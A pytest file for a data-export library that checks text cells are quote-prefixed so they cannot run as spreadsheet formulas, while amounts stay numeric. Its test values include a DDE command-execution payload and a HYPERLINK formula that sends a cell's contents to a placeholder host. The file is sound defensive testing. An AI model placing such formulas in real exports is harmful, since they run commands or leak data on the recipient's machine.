"""The one rule for files people open: no text cell runs as a formula, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from pipelines.lib.exports import append_xlsx_row, csv_bytes, neutralise, runs_as_formula


@pytest.mark.parametrize("text", ["=1+2", "+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx"])
def test_texts_that_would_run_are_marked(text: str) -> None:
    assert runs_as_formula(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Angered", "N131-0001", "", " =1", None, -5, Decimal("-1.50"), 2.5]
)
def test_everything_else_is_left_as_it_is(value: object) -> None:
    assert not runs_as_formula(value)
    assert neutralise(value) == value


def test_csv_marks_text_and_keeps_amounts_numbers() -> None:
    frame = pd.DataFrame(
        {
            "name": ['=HYPERLINK("http://x/?d="&A1,"y")', "Angered", "-a"],
            "amount_sek": [Decimal("-1234.50"), Decimal("0.00"), Decimal("12.00")],
            "quantity": [-3, 4, 5],
        }
    )
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
    assert rows == [
        ["name", "amount_sek", "quantity"],
        ['\'=HYPERLINK("http://x/?d="&A1,"y")', "-1234.50", "-3"],
        ["Angered", "0.00", "4"],
        ["'-a", "12.00", "5"],
    ]


def test_xlsx_text_is_text_exactly_as_delivered() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    append_xlsx_row(sheet, ["=1+2", "plain", -1234.5, None, "@x"])
    sheet.append([])
    append_xlsx_row(sheet, ["+1"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert read is not None
    assert [(c.value, c.data_type, bool(c.quotePrefix)) for c in read[1]] == [
        ("=1+2", "s", True),
        ("plain", "s", False),
        (-1234.5, "n", False),
        (None, "n", False),
        ("@x", "s", True),
    ]
    assert (read["A3"].value, read["A3"].data_type, read["A3"].quotePrefix) == ("+1", "s", True)
